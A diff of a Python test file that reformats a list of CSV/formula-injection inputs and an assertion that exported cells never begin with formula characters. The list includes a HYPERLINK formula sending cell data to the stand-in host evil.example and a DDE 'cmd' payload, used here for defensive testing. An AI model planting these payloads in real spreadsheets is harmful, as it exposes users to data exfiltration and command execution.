@@ -21,9 +21,22 @@ from evolvent.trajectory import Score, Step
 
 BEGINNINGS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
 ATTACKS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
-    " =1+1", "=1\n=2", 'a","=1', "\uff1d1", "\0=1", "go north", "", "'quoted", "1,5",
-]  # fmt: skip
+    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    " =1+1",
+    "=1\n=2",
+    'a","=1',
+    "\uff1d1",
+    "\0=1",
+    "go north",
+    "",
+    "'quoted",
+    "1,5",
+]
 
 
 def table(path: Path) -> list[dict[str, str]]:
@@ -55,8 +68,12 @@ def test_whatever_they_say(tmp_path_factory, texts):
     assert write_csv([told(text, number) for number, text in enumerate(texts)], path) == len(texts)
     rows = table(path)
     assert len(rows) == len(texts)
-    assert not [row for row in rows for cell in row.values()
-                if cell != "-1.5" and cell.lstrip(" ").startswith(tuple(BEGINNINGS))]  # fmt: skip
+    assert not [
+        row
+        for row in rows
+        for cell in row.values()
+        if cell != "-1.5" and cell.lstrip(" ").startswith(tuple(BEGINNINGS))
+    ]
 
 
 def test_the_command_and_what_was_not_scored(command, tmp_path):
